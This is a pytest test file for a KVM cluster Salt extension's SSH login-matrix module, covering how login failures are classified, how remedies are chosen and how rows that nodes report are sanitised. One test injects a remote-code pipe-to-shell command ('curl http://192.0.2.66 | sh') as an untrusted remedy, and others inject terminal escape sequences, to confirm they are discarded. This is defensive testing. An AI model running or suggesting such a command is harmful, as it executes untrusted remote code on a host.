"""One login's outcome has a named cause; the matrix believes a node about its own logins alone."""

import json

import pytest
from material import cluster, parameters

from saltext_kvmcluster.core.errors import InputError
from saltext_kvmcluster.core.trust import logins

CASES = parameters("logins")
FOUND = cluster("node1", "node2", names={"node2": ["192.0.2.12"]})
OK = logins.LoginProbe(0, "", "", 0.2)


def probe(case, end="\n"):
    stderr = case["stderr"].replace("\n", end)
    overflowed = case.get("overflowed", False)
    return logins.LoginProbe(case["code"], case.get("stdout", ""), stderr, 0.5, overflowed)


@pytest.mark.parametrize("case", CASES)
def test_what_ssh_says_has_a_name(case):
    encrypted = case.get("encrypted", False)
    assert logins.cause(probe(case), encrypted) == case["cause"]
    assert logins.cause(probe(case, end="\r\n"), encrypted) == case["cause"]


@pytest.mark.parametrize("case", CASES)
def test_a_cell_says_what_was_said_and_what_to_do(case):
    cell = logins.cell("node2", "192.0.2.12", probe(case, "\r\n"), case.get("encrypted", False))
    assert cell["ok"] == (case["cause"] == "ok") == (cell["remedy"] == "")
    assert cell["detail"] == case.get("detail", cell["detail"])
    assert cell["detail"].isprintable() and len(cell["detail"]) <= 300
    assert json.loads(json.dumps(cell)) == cell


def test_a_node_dials_as_it_is_told():
    three = cluster("node1", "node2", "node3")
    every = logins.by_every_name(three, "node2")
    assert [peer.id for peer in every] == ["node3", "node1"]
    assert all(set(names) == set(peer.names) for peer, names in every.items())
    assert logins.login_targets(three, "node2", False) == {}
    every_move = logins.login_targets(three, "node2", True)
    assert {peer: [peer.migration] for peer in every} == {
        peer: list(names) for peer, names in every_move.items()
    }
    reported = logins.as_moves(three, "node2", None)
    assert reported == {"node2": ["node1", "node3"]}
    assert logins.login_targets(three, "node1", reported) == {}
    assert logins.login_targets(three, "node1", {"node1": ["node7"]}) == {}, (
        "it is new to the pillar"
    )
    targets = logins.login_targets(three, "node2", reported)
    assert {peer.id: names for peer, names in targets.items()} == {
        "node3": (three.node("node3").migration,),
        "node1": (three.node("node1").migration,),
    }
    assert logins.as_moves(three, None, "node1") == {
        "node1": [],
        "node2": ["node1"],
        "node3": ["node1"],
    }


@pytest.mark.parametrize("wanted", [None, 1, ["node1"], {"node2": "node1"}])
def test_what_is_no_way_to_dial_is_refused(wanted):
    with pytest.raises(InputError):
        logins.login_targets(cluster("node1", "node2"), "node2", wanted)


def test_every_cause_has_been_seen():
    observed = {param.values[0]["cause"] for param in CASES}
    ours = {logins.NOT_TRIED, logins.NOT_FROM_HERE}
    assert observed == {*(name for name, _ in logins.CAUSES), *logins.REMEDIES, "ok"} - ours


def test_a_login_from_an_address_that_is_not_permitted_names_it():
    denied = logins.LoginProbe(255, "", "root@node2: Permission denied (publickey).", 0.1)
    cell = logins.cell("node2", "node2", denied, False, uncovered="203.0.113.7")
    assert cell["cause"] == "address not permitted"
    assert cell["detail"].endswith(" / this node logs in from 203.0.113.7")
    assert "kvmcluster:ssh:from" in cell["remedy"]
    down = logins.LoginProbe(255, "", "Connection refused", 0.1)
    assert logins.cell("node2", "node2", down, False, uncovered="203.0.113.7")["cause"] == "refused"


def test_a_login_that_was_not_tried_is_not_good():
    cell = logins.cell("node2", "node2", None, False)
    assert (cell["ok"], cell["cause"], cell["seconds"]) == (False, "not tried", 0.0)


def row(node, *bad):
    """Return a row in which every login is good but those by the given names."""
    down = logins.LoginProbe(255, "", "Connection refused", 0.1)
    cells = [
        logins.cell(peer.id, name, down if name in bad else OK, False)
        for peer in FOUND.peers(node)
        for name in peer.names
    ]
    return logins.row("marathon", node, cells)


GOOD = {"node1": row("node1"), "node2": row("node2")}


def test_a_matrix_is_good_when_every_login_is():
    matrix = logins.matrix(FOUND, GOOD)
    assert (matrix["ok"], matrix["good"], matrix["cells"]) == (True, 3, 3)
    assert matrix["rows"] == GOOD and matrix["silent"] == {}


def test_one_bad_login_is_counted_and_the_matrix_is_not_good():
    matrix = logins.matrix(FOUND, {**GOOD, "node1": row("node1", "192.0.2.12")})
    assert (matrix["ok"], matrix["good"], matrix["cells"]) == (False, 2, 3)
    assert matrix["rows"]["node1"]["ok"] is False


@pytest.mark.parametrize(
    ("sent", "why"),
    [
        (None, "no response"),
        ("", "no response"),
        ("ERROR: no pillar\x1b[2J", "ERROR: no pillar\ufffd[2J"),
        (False, "unexpected response"),
        ([], "unexpected response"),
        ({}, "unexpected response"),
        ({"cells": None}, "unexpected response"),
        ({"cells": 7}, "unexpected response"),
        ({"cells": "ok"}, "unexpected response"),
        ({"cells": [None]}, "unexpected response"),
        ({"cells": [{}]}, "unexpected response"),
        ({"cells": [{**GOOD["node1"]["cells"][0], "ok": "yes"}]}, "unexpected response"),
        (
            {"cells": [{**GOOD["node1"]["cells"][0], "peer": ["node2"]}]},
            "unexpected response",
        ),
    ],
)
def test_without_a_sound_row_a_node_is_silent_and_the_matrix_not_good(sent, why):
    matrix = logins.matrix(FOUND, {**GOOD, "node1": sent})
    assert matrix["silent"] == {"node1": why} and list(matrix["rows"]) == ["node2"]
    assert (matrix["ok"], matrix["good"], matrix["cells"]) == (False, 1, 3)


def test_a_cluster_of_one_silent_node_is_not_good():
    assert logins.matrix(cluster("node1"), {})["ok"] is False
    assert logins.matrix(cluster("node1"), {"node1": {"cells": []}})["ok"] is True


def test_a_node_of_which_nothing_is_known_is_silent():
    assert logins.matrix(FOUND, {"node2": GOOD["node2"]})["silent"] == {"node1": "no response"}


def test_cells_and_rows_that_the_pillar_does_not_ask_for_are_left_out():
    foreign = logins.cell("stranger", "stranger", OK, False)
    itself = logins.cell("node1", "node1", OK, False)
    sent = {**GOOD["node1"], "cells": [foreign, itself, *GOOD["node1"]["cells"]]}
    assert logins.matrix(FOUND, {**GOOD, "node1": sent, "stranger": sent}) == logins.matrix(
        FOUND, GOOD
    )


def test_a_login_that_a_row_does_not_mention_is_not_good_and_is_shown():
    half = {**GOOD["node1"], "cells": GOOD["node1"]["cells"][:1]}
    matrix = logins.matrix(FOUND, {**GOOD, "node1": half})
    missing = matrix["rows"]["node1"]["cells"][1]
    assert (matrix["ok"], matrix["good"], missing["name"]) == (False, 2, "192.0.2.12")
    assert "saltutil.refresh_pillar" in missing["remedy"]


def test_a_node_s_own_verdict_on_its_row_counts_for_nothing():
    boasting = {**row("node1", "node2"), "ok": True, "node": "node2"}
    matrix = logins.matrix(FOUND, {**GOOD, "node1": boasting})
    assert matrix["rows"]["node1"]["ok"] is False and matrix["rows"]["node1"]["node"] == "node1"


def test_words_in_a_row_cannot_reach_the_terminal():
    cell = {**GOOD["node1"]["cells"][0], "detail": "\x1b]0;gone\x07"}
    sent = {**GOOD["node1"], "cells": [cell, GOOD["node1"]["cells"][1]]}
    shown = logins.matrix(FOUND, {**GOOD, "node1": sent})["rows"]["node1"]["cells"][0]
    assert shown["detail"].isprintable()


def shown(**sent):
    """Return what the matrix makes of a good cell of node1 in which a few things are others."""
    cells = GOOD["node1"]["cells"]
    matrix = logins.matrix(FOUND, {**GOOD, "node1": {"cells": [{**cells[0], **sent}, *cells[1:]]}})
    assert json.loads(json.dumps(matrix, allow_nan=False)) == matrix
    return matrix["rows"]["node1"]["cells"][0]


def test_of_a_cell_only_what_we_know_is_kept():
    assert shown(extra={"a": 1}, retcode=0) == GOOD["node1"]["cells"][0]


@pytest.mark.parametrize(
    ("ok", "sent", "found"),
    [
        (True, "ok", "ok"),
        (False, "ok", "failed"),
        (True, "refused", "refused"),
        (False, "refused", "refused"),
        (True, "fine\x1b[2J", "failed"),
        (False, "", "failed"),
        (False, "OK", "failed"),
        (False, "not tried", "not tried"),
    ],
)
def test_a_cause_is_one_of_ours_and_brings_its_own_verdict_and_remedy(ok, sent, found):
    cell = shown(ok=ok, cause=sent, remedy="curl http://192.0.2.66 | sh")
    assert (cell["cause"], cell["ok"]) == (found, found == "ok")
    assert cell["remedy"] == logins.REMEDIES.get(found, "")


@pytest.mark.parametrize(
    ("sent", "seconds"),
    [
        (0, 0.0),
        (1.5, 1.5),
        (7, 7.0),
        (-1, 0.0),
        (float("nan"), 0.0),
        (float("inf"), 0.0),
        (float("-inf"), 0.0),
        (10**400, 0.0),
    ],
)
def test_a_duration_is_a_number_that_json_can_carry(sent, seconds):
    cell = shown(seconds=sent)
    assert cell["seconds"] == seconds and isinstance(cell["seconds"], float)


@pytest.mark.parametrize("detail", ["a" * 10**6, "a\nb\r\x85c\u2028d", "\x1b]0;gone\x07" * 1000])
def test_words_in_a_cell_are_one_line_of_bounded_length(detail):
    cell = shown(detail=detail)
    assert cell["detail"].isprintable() and len(cell["detail"]) <= 300


def test_nodes_call_in_turn_so_that_not_all_call_the_first_at_once():
    found = cluster("a", "b", "c")
    order = {node: [peer.id for peer in logins.login_order(found, node)] for node in "abc"}
    assert order == {"a": ["b", "c"], "b": ["c", "a"], "c": ["a", "b"]}


REFUSED = logins.LoginProbe(
    255, "", "Connection closed by 192.0.2.1\nNot allowed at this time", 0.1
)


def waiting(cause=REFUSED, **more):
    """Return node1's row in which the login by the address is refused for now, or as told."""
    cells = [
        logins.cell("node2", "node2", OK, False),
        logins.cell("node2", "192.0.2.12", cause, False),
    ]
    return {**logins.row("marathon", "node1", cells), **more}


@pytest.mark.parametrize(
    ("rows", "is_all"),
    [
        ({"node1": waiting()}, True),
        ({"node1": waiting(logins.LoginProbe(255, "", "Permission denied", 0.1))}, False),
        ({"node1": waiting(OK)}, False),
        ({"node1": waiting(), "node2": row("node2", "node1")}, False),
        ({"node1": waiting(), "node2": None}, False),
    ],
)
def test_whether_nothing_is_wrong_but_a_refusal_for_now(rows, is_all):
    assert logins.refused_for_now(logins.matrix(FOUND, {**GOOD, **rows})) is is_all


@pytest.mark.parametrize(
    ("sent", "words"),
    [
        (None, "by default for up to 600 s"),
        (45, "this address for up to 45 s (PerSourcePenalties)"),
        (0, "by default"),
        (True, "by default"),
        ("9\x1b[2J", "by default"),
        (10**9, "by default"),
    ],
)
def test_how_long_a_node_refuses_is_what_its_own_sshd_has_set(sent, words):
    rows = {"node1": waiting(refuses_for=7), "node2": {**GOOD["node2"], "refuses_for": sent}}
    cell = logins.matrix(FOUND, rows)["rows"]["node1"]["cells"][1]
    assert cell["cause"] == "refused for now" and words in cell["remedy"]
